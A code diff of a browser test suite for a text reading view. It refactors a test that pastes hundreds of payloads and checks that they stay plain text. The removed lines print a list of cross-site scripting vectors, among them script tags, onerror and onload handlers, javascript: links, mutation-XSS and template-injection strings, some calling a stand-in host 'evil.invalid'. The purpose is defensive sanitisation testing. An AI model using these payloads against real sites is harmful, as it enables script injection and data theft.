@@ -5,16 +5,8 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
-import {
-  answerWith,
-  dist,
-  paste,
-  pasteArticle,
-  readerOf,
-  readingOf,
-  sectionOf,
-  useBrowser,
-} from './support/browser.mjs';
+import { answerWith, dist, pasteArticle, readerOf, readingOf, sectionOf, useBrowser } from './support/browser.mjs';
+import { PAYLOADS } from './support/payloads.mjs';
 import { dateAt, eventAt, figureAt, reportOf, spanOf } from './support/report.mjs';
 
 const folder = mkdtempSync(join(tmpdir(), 'keyline-'));
@@ -24,43 +16,34 @@ after(() => rmSync(folder, { recursive: true, force: true }));
 const openPage = useBrowser();
 const openDeepPage = useBrowser(folder);
 
-/** Every way in that is known, times every thing to do there. */
-const CODES = ['alert(1)', "fetch('//evil.invalid')", "location='//evil.invalid'"];
-const PAYLOADS = CODES.flatMap((code) => [
-  `<script>${code}</script>`,
-  `"><script src="//evil.invalid/x.js">${code}</script>`,
-  `<img src=x onerror="${code}">`,
-  `<svg onload="${code}"><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
-  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
-  `<a href="javascript:${code}">9% more</a>`,
-  `<details open ontoggle="${code}">`,
-  `<video><source onerror="${code}"></video>`,
-  `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
-  `<link rel=stylesheet href=//evil.invalid/x.css>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
-  `<base href=//evil.invalid/><form action=//evil.invalid/><button autofocus onfocus="${code}">`,
-  `<style>@import '//evil.invalid';*{background:url(//evil.invalid)}</style>`,
-  `\${${code}} {{constructor.constructor("${code}")()}}`,
-  `]]><!--<noscript><p title="</noscript><img src=x onerror=${code}>">`,
-]);
-
 /** What the reading view is made of; no payload holds any of these but links, buttons and paragraphs. */
 const ALLOWED = ['A', 'BDI', 'BUTTON', 'DIV', 'H2', 'LI', 'P', 'SPAN', 'UL'];
 
 test(`${PAYLOADS.length} pasted payloads stay text`, async (t) => {
+  assert.ok(PAYLOADS.length >= 500);
   const page = await openPage(t);
-  await pasteArticle(page, `${PAYLOADS[0]} Sales rose by 5% in 2024.`.padEnd(240));
-  for (const payload of PAYLOADS.slice(1)) {
-    await paste(page, `${payload} Sales rose by 5% in 2024.`);
-    await readingOf(page).getByText(payload.split(/\d/)[0].trim()).first().waitFor();
-    const tags = await readingOf(page).evaluate((region) =>
-      [...region.querySelectorAll('*')].map((node) => node.tagName),
-    );
-    assert.deepEqual(
-      tags.filter((tag) => !ALLOWED.includes(tag)),
-      [],
-    );
-  }
+  const tags = await page.evaluate(async (payloads) => {
+    const reading = document.querySelector('.reading-text');
+    const found = new Set();
+    for (const [index, payload] of payloads.entries()) {
+      const clipboardData = new DataTransfer();
+      const words = `Sales rose by 5% in 2024 (${index}).`;
+      clipboardData.setData('text/plain', `${words} ${payload}`);
+      if (index % 2) clipboardData.setData('text/html', `<p>${words}</p><p>${payload}</p>`);
+      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+      for (const end = Date.now() + 10_000; !reading.textContent.includes(words); ) {
+        if (Date.now() > end) throw new Error(`not read: ${payload}`);
+        await new Promise((resolve) => setTimeout(resolve));
+      }
+      for (const { tagName } of reading.querySelectorAll('*')) found.add(tagName);
+    }
+    return [...found];
+  }, PAYLOADS);
+  await readingOf(page).getByRole('link', { name: '5%' }).waitFor();
+  assert.deepEqual(
+    tags.filter((tag) => !ALLOWED.includes(tag)),
+    [],
+  );
 });
 
 test('payloads in every field of a report stay text', async (t) => {
